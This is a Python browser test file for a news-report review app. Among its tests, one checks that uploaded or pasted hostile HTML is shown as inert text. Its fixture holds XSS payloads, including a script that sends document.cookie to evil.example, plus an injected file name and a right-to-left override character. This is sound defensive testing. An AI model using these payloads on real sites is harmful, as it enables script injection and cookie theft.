"""A reviewer answers a question by a key and takes the answer back by a key; reports are looked at before they are added."""

from __future__ import annotations

import pytest

from tests.browser.visiting import Entering, Visitor

HOSTILE = """<!doctype html><html><head><title>Swap <script>alert("title")</script></title>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<meta property="og:site_name" content='"><script>alert("outlet")</script>'><meta property="article:published_time" content="2025-06-14">
<link rel="canonical" href="javascript:alert('url')"><link rel="stylesheet" href="https://evil.example/x.css"></head>
<body onload="alert('body')"><article><h1>Prisoners home &lt;img src=x onerror=alert("headline")&gt;</h1>
<p>KYIV, June 14, 2025 - Ukraine handed over 77 prisoners of war to Russia on Saturday, said &lt;script&gt;alert("text")&lt;/script&gt; officials.</p>
<p onclick="alert('p')">The ministry confirmed it. <img src="https://evil.example/p.png" onerror="alert('img')"><svg onload="alert('svg')"></svg></p>
<iframe src="https://evil.example/"></iframe><script>document.title = "taken"; fetch("https://evil.example/?" + document.cookie)</script>
</article></body></html>"""
STORY = "Prisoners home\n\nKYIV, June 14, 2025 - Ukraine handed over 78 prisoners of war to Russia on Saturday, \u202eofficials\u202c said.\n"


def number_open(visitor: Visitor) -> int:
    return int(visitor.room.json("/ledger.json")["reports"])


def test_an_answer_and_back_by_keys(visitor: Visitor) -> None:
    page = visitor.let_in()
    asked = page.locator("#asked").inner_text()
    heading = page.locator("h1").inner_text()
    with page.expect_navigation():
        page.keyboard.press("1")
    assert page.locator(".done").inner_text().startswith("Kept:")
    assert page.locator("h1").inner_text() != heading
    with page.expect_navigation():
        page.keyboard.press("u")
    assert page.locator("#asked").inner_text() == asked
    assert page.locator("h1").inner_text() == heading
    history = visitor.open("/history").locator("ol.history").inner_text()
    assert "taken back since" in history
    assert "takes back" in history


def test_skipping_and_going_back_by_keys(visitor: Visitor) -> None:
    page = visitor.let_in()
    first = page.locator("h1").inner_text()
    with page.expect_navigation():
        page.keyboard.press("s")
    assert page.locator("h1").inner_text() != first
    with page.expect_navigation():
        page.keyboard.press("b")
    assert page.locator("h1").inner_text() == first


def test_a_note_that_is_typed_answers_nothing(visitor: Visitor) -> None:
    page = visitor.let_in()
    first = page.locator("h1").inner_text()
    page.get_by_label("Why").fill("")
    page.get_by_label("Why").press_sequentially("1 su")
    assert page.get_by_label("Why").input_value() == "1 su"
    assert page.locator("h1").inner_text() == first


def test_the_words_behind_a_question_are_marked(visitor: Visitor) -> None:
    page = visitor.let_in()
    visitor.clicks(".question .claims blockquote a")
    assert page.locator("mark.asked").first.is_visible()


def test_without_script_an_answer_and_back_by_buttons(enter: Entering) -> None:
    visitor = enter(java_script_enabled=False)
    page = visitor.let_in()
    heading = page.locator("h1").inner_text()
    visitor.clicks(".answers button")
    assert page.locator(".done").is_visible()
    visitor.clicks(".done button")
    assert page.locator("h1").inner_text() == heading


@pytest.mark.parametrize("way", ["file", "words"])
def test_a_hostile_page_is_only_words(visitor: Visitor, way: str) -> None:
    """<script>, onerror, iframe, refresh and base in headline, outlet, address and text: nothing runs, nothing is fetched, it is shown as it is written."""
    visitor.let_in()
    page = visitor.open("/add")
    if way == "file":
        page.locator("#report").set_input_files({"name": "<img src=x onerror=alert(1)>.html", "mimeType": "text/html", "buffer": HOSTILE.encode()})
        visitor.clicks("form[action='/add/file'] button")
    else:
        page.locator("#text").fill(HOSTILE)
        visitor.clicks("form[action='/add/words'] button")
    assert "/draft/" in page.url
    assert "Not in the book yet" in page.locator("main").inner_text()
    assert "77 prisoners of war" in "".join(page.locator(".text mark").all_inner_texts())
    assert '<script>alert("text")</script>' in page.locator(".text").inner_text()
    page.locator(".text").hover()
    page.wait_for_timeout(300)
    assert page.locator("main script, main img, main iframe, main base, main meta, main [onclick]").count() == 0
    assert page.title().endswith("· Parley")
    assert not visitor.faults


def test_pasted_words_are_looked_at_then_added(visitor: Visitor) -> None:
    visitor.let_in()
    before = number_open(visitor)
    page = visitor.open("/add")
    page.locator("#text").fill(STORY)
    visitor.clicks("form[action='/add/words'] button")
    assert page.locator(".note[data-claim]").count() == 1
    assert number_open(visitor) == before
    visitor.clicks(".draft button")
    assert "/report/pasted-" in page.url
    assert number_open(visitor) == before + 1


def test_an_address_of_this_machine_is_refused(visitor: Visitor) -> None:
    visitor.let_in()
    visitor.expected = 422
    page = visitor.open("/add")
    page.locator("#url").fill(f"{visitor.room.base}/static/room.css")
    visitor.clicks("form[action='/add/address'] button")
    assert page.locator("h1").inner_text() == "Not understood"


def test_a_headline_from_right_to_left(visitor: Visitor) -> None:
    """A Hebrew headline runs from right to left, its report and the room around it from left to right."""
    visitor.let_in()
    page = visitor.open("/add")
    page.locator("#text").fill(f"\u05d7\u05d9\u05dc\u05d5\u05e4\u05d9 \u05e9\u05d1\u05d5\u05d9\u05d9\u05dd\n\n{STORY}")
    visitor.clicks("form[action='/add/words'] button")
    directions = {where: page.locator(where).first.evaluate("one => getComputedStyle(one).direction") for where in ("h1", ".text mark", ".margin")}
    assert directions == {"h1": "rtl", ".text mark": "ltr", ".margin": "ltr"}
